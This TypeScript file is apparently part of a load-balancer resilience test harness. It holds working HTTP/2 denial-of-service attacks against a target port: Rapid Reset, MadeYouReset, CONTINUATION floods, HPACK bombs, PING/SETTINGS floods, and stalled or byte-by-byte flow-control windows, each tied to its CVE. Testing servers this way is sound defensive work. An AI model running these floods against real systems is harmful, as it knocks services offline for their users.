/**
 * Attacks by HTTP/2 (h2c): floods of streams, resets and frames, header blocks that are cheap to send and dear to read, and windows that
 * stay closed or open by a byte. Normal clients beside them use HTTP/2, too.
 *
 * An attacker whose connection is ended comes back with a new one.
 */
import { setTimeout as sleep } from 'node:timers/promises';
import { clientPreface, FrameType, SettingId } from '../../../src/http/h2/frame.ts';
import type { Attack, Target } from '../attack.ts';
import { Raw } from '../raw.ts';

const { headers, data, resetStream, settings, ping, windowUpdate, continuation } = FrameType;
const needs = { h2: true } as const;
const cancel = Buffer.from([0, 0, 0, 8]);
/** GET / of the static table, and its authority; POST; GET /large. */
const get = Buffer.from('828684410161', 'hex');
const post = Buffer.from('838684410161', 'hex');
const getLarge = Buffer.concat([Buffer.from('82864101610406', 'hex'), Buffer.from('/large')]);

function frame(type: number, flags: number, id: number, payload: Buffer = Buffer.alloc(0)): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(id, 5);
  return Buffer.concat([head, payload]);
}

function setting(id: number, value: number): Buffer {
  const payload = Buffer.alloc(6);
  payload.writeUInt16BE(id);
  payload.writeUInt32BE(value, 2);
  return frame(settings, 0, 0, payload);
}

function window(id: number, bytes: number): Buffer {
  const payload = Buffer.alloc(4);
  payload.writeUInt32BE(bytes);
  return frame(windowUpdate, 0, id, payload);
}

const start = Buffer.concat([clientPreface, frame(settings, 0, 0)]);
/** Bytes that may wait in an attacker's socket: more would be its own memory. */
const mostPending = 256 * 1024;

/** `burst`: what it sends next; `n` counts the bursts of its connection. Until the window is over, or `most` bursts were sent in all. */
async function flood(
  { port, over }: Target,
  attackers: number,
  burst: (n: number) => Buffer,
  most = Number.POSITIVE_INFINITY,
): Promise<number> {
  let sent = 0;
  const attack = async () => {
    while (!over.aborted && sent < most) {
      const raw = new Raw(port);
      raw.send(start);
      for (let n = 0; raw.isOpen && !over.aborted && sent < most; n++) {
        raw.send(burst(n));
        sent++;
        do await sleep(1);
        while (raw.isOpen && !over.aborted && raw.socket.writableLength > mostPending);
      }
      raw.close();
    }
  };
  await Promise.all(Array.from({ length: attackers }, attack));
  return sent;
}

const perBurst = 100;

function burstOf(make: (id: number) => readonly Buffer[]): (n: number) => Buffer {
  return (n) => Buffer.concat(Array.from({ length: perBurst }, (_, i) => make(2 * (n * perBurst + i) + 1)).flat());
}

function floodAttack(
  name: string,
  title: string,
  attackers: number,
  burst: (n: number) => Buffer,
  unit: string,
): Attack {
  return {
    name,
    title,
    needs,
    async run(target) {
      const sent = await flood(target, attackers, burst);
      return { attackers, note: `${sent * perBurst} ${unit}` };
    },
  };
}

/** Of each round: with the three rounds of a run, three times as many. */
const resetStreams = 100_000;

export const rapidReset: Attack = {
  name: 'h2-rapid-reset',
  title: '100,000 streams, each reset at once (CVE-2023-44487)',
  needs,
  async run(target) {
    const burst = burstOf((id) => [frame(headers, 5, id, get), frame(resetStream, 0, id, cancel)]);
    const sent = await flood(target, 20, burst, resetStreams / perBurst);
    return { attackers: 20, note: `${sent * perBurst} streams` };
  },
};

export const madeYouReset = floodAttack(
  'h2-made-you-reset',
  '20 clients that make the balancer reset their streams (CVE-2025-8671)',
  20,
  burstOf((id) => [frame(headers, 4, id, post), window(id, 0x7fff_ffff)]),
  'streams',
);

export const continuations = floodAttack(
  'h2-continuations',
  '20 clients with header blocks that do not end (CVE-2024-27316)',
  20,
  (n) =>
    Buffer.concat([
      ...(n === 0 ? [frame(headers, 1, 1, get)] : []),
      ...Array.from({ length: perBurst }, () => frame(continuation, 0, 1, Buffer.alloc(n % 2 === 0 ? 0 : 1000, 0x82))),
    ]),
  'frames',
);

/** A field of 3,900 bytes for the table, and then a byte for each time it is named. */
const bombField = Buffer.concat([Buffer.from('400178', 'hex'), Buffer.from('7fbd1d', 'hex'), Buffer.alloc(3900, 'y')]);
const bomb = (times: number, first: boolean) =>
  Buffer.concat([get, ...(first ? [bombField] : []), Buffer.alloc(times, 0xbe)]);

export const hpackBombs = floodAttack(
  'h2-hpack-bombs',
  '20 clients with header blocks that name a large field 5, and 8,000 times',
  20,
  (n) =>
    Buffer.concat(
      Array.from({ length: perBurst }, (_, i) =>
        frame(headers, 5, 2 * (n * perBurst + i) + 1, bomb(i === perBurst - 1 ? 8000 : 5, n === 0 && i === 0)),
      ),
    ),
  'blocks',
);

export const frameFloods = floodAttack(
  'h2-frames',
  '20 clients with PING, SETTINGS and empty DATA (CVE-2019-9512, -9515, -9518)',
  20,
  (n) =>
    Buffer.concat([
      ...(n === 0 ? [frame(headers, 4, 1, post)] : []),
      ...Array.from(
        { length: perBurst },
        (_, i) => [frame(ping, 0, 0, Buffer.alloc(8)), frame(settings, 0, 0), frame(data, 0, 1)][i % 3]!,
      ),
    ]),
  'frames',
);

/** Connections that ask for 4 MB on ten streams each, and then do `then` every 20 ms. */
function readers(name: string, title: string, first: Buffer, reads: boolean, then: Buffer): Attack {
  return {
    name,
    title,
    needs,
    settle: 800,
    async run({ port, over }) {
      const all = Array.from({ length: 50 }, () => new Raw(port, reads));
      const asked = Array.from({ length: 10 }, (_, i) => frame(headers, 5, 2 * i + 1, getLarge));
      for (const one of all) one.send(Buffer.concat([clientPreface, first, ...asked]));
      while (!over.aborted) {
        await sleep(20);
        if (then.length > 0) for (const one of all) one.send(then);
      }
      for (const one of all) one.close();
      return { attackers: all.length };
    },
  };
}

export const closedWindows = readers(
  'h2-closed-windows',
  '50 clients that ask for 4 MB ten times, and open no window',
  setting(SettingId.initialWindowSize, 0),
  true,
  Buffer.alloc(0),
);

export const tinyWindows = readers(
  'h2-tiny-windows',
  '50 clients that take 4 MB ten times, by a byte each 20 ms (CVE-2019-9511)',
  setting(SettingId.initialWindowSize, 0),
  true,
  Buffer.concat(Array.from({ length: 10 }, (_, i) => window(2 * i + 1, 1))),
);

export const openWindows = readers(
  'h2-open-windows',
  '50 clients that open all windows for 4 MB ten times, and read nothing (CVE-2019-9517)',
  Buffer.concat([setting(SettingId.initialWindowSize, 0x7fff_ffff), window(0, 0x7000_0000)]),
  false,
  Buffer.alloc(0),
);
